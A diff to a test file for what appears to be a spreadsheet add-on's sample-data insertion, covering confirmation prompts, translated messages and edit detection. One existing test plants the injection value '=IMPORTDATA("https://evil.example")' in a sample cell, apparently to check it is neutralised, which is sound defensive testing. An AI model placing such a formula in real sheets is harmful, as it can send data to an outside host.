@@ -2,6 +2,7 @@
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import * as main from '../../../src/gas/main';
 import { cellInput } from '../../../src/gas/write-block';
+import { fmt, TEXTS } from '../../../src/sidebar/i18n';
 import { type Installed, installFake, SAMPLE_UPLOAD, snapshot } from './fixture';
 
 let env: Installed;
@@ -156,7 +157,8 @@ describe('insertSample', () => {
     fake.spreadsheet.addSheet('Purchases', [['mine']]);
     const upload = structuredClone(SAMPLE_UPLOAD);
     upload.sheets[0]!.rows[2]![5] = '=IMPORTDATA("https://evil.example")';
-    main.insertSample(upload);
+    // Beside the owner's own data, the first insertion asks first (see below).
+    main.insertSample(upload, { replace: true });
     expect(fake.values('Purchases')).toEqual([['mine']]);
     const customers = fake.spreadsheet.sheet('Customers');
     expect(customers.formulaCells().map((f) => f.formula)).toContain(
@@ -251,5 +253,65 @@ describe('cellInput', () => {
     const date = new Date(0);
     expect(cellInput(date)).toBe(date);
     expect((cellInput('x'.repeat(60_000)) as string).length).toBe(50_001);
+  });
+});
+
+describe('Insert sample data beside the owner’s own data (new-owner trial)', () => {
+  it('the first insertion says which sheets it adds and asks, changing nothing until the owner says yes', () => {
+    env = installFake();
+    const { fake } = env;
+    fake.spreadsheet.addSheet('orders_2024', [
+      ['Name', 'Email', 'Created at', 'Total'],
+      ['#1001', 'ann@example.com', '2024-03-01', 40],
+    ]);
+    fake.spreadsheet.addSheet('Insights (preview)', [['=CUSTOMER_INSIGHTS(orders_2024!A1:D)']]);
+    const before = fake.spreadsheet.sheetNames();
+    const asked = main.insertSample(SAMPLE_UPLOAD);
+    expect(asked).toEqual({
+      status: 'confirm',
+      add: ['Customers', 'Purchases', 'Feedback'],
+      replace: [],
+      kept: [],
+    });
+    expect(fake.spreadsheet.sheetNames()).toEqual(before);
+    const words = (['en', 'zh-CN', 'zh-TW'] as const).map((l) =>
+      fmt(TEXTS[l].sampleAdd, { sheets: (asked as { add: string[] }).add.join(', ') }),
+    );
+    expect(words[0]).toBe(
+      'This workbook has your own data. Inserting the sample adds these sheets beside it: Customers, Purchases, Feedback. Your sheets are not changed.',
+    );
+    expect(words[1]).toContain('Customers, Purchases, Feedback');
+    expect(words[2]).toContain('Customers, Purchases, Feedback');
+    expect(main.insertSample(SAMPLE_UPLOAD, { replace: true })).toEqual({
+      status: 'inserted',
+      sheets: ['Customers', 'Purchases', 'Feedback'],
+      kept: [],
+      sampleDate: '2026-06-30',
+    });
+    expect(fake.values('orders_2024')[1]![1]).toBe('ann@example.com');
+  });
+
+  it('an empty workbook gets the sample at once', () => {
+    env = installFake();
+    expect(main.insertSample(SAMPLE_UPLOAD)).toMatchObject({ status: 'inserted', kept: [] });
+  });
+
+  it('the sample’s formulas computing their results is not an edit: "kept as you edited" names only real edits', () => {
+    env = installFake();
+    const { fake } = env;
+    main.insertSample(SAMPLE_UPLOAD);
+    // Sheets computes the column formulas after the sheet is written: their results spill below them.
+    const customers = fake.spreadsheet.sheet('Customers').api;
+    const rows = fake.values('Customers').length;
+    for (let column = 6; column <= 12; column++)
+      for (let row = 3; row <= rows; row++) customers.getRange(row, column).setValue(`result ${row}`);
+    expect(main.insertSample(SAMPLE_UPLOAD)).toEqual({
+      status: 'confirm',
+      replace: ['Customers', 'Purchases', 'Feedback'],
+      kept: [],
+    });
+    // A real edit still counts.
+    customers.getRange(3, 2).setValue('changed@example.com');
+    expect(main.insertSample(SAMPLE_UPLOAD)).toMatchObject({ kept: ['Customers'] });
   });
 });
